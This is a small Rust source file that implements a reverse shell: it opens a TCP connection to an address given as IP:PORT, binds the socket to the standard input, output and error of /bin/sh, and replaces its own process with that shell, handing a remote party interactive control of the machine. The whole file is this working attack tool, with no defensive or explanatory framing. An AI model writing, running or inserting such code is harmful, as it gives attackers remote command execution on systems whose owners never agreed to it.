//! A shell whose standard streams are a connection that it made.

use std::convert::Infallible;
use std::net::TcpStream;
use std::os::fd::OwnedFd;
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};

use anyhow::Context as _;

/// Connects to `address` (`IP:PORT`) and becomes a shell there.
///
/// # Errors
/// Nobody listens, or there is no shell.
pub fn run(address: &str) -> anyhow::Result<()> {
    match become_shell(address)? {}
}

fn become_shell(address: &str) -> anyhow::Result<Infallible> {
    let stream = TcpStream::connect(address).with_context(|| format!("connecting to {address}"))?;
    let end = || -> anyhow::Result<Stdio> { Ok(OwnedFd::from(stream.try_clone()?).into()) };
    let mut shell = Command::new("/bin/sh");
    shell.stdin(end()?).stdout(end()?).stderr(end()?);
    Err(shell.exec()).context("becoming /bin/sh")
}
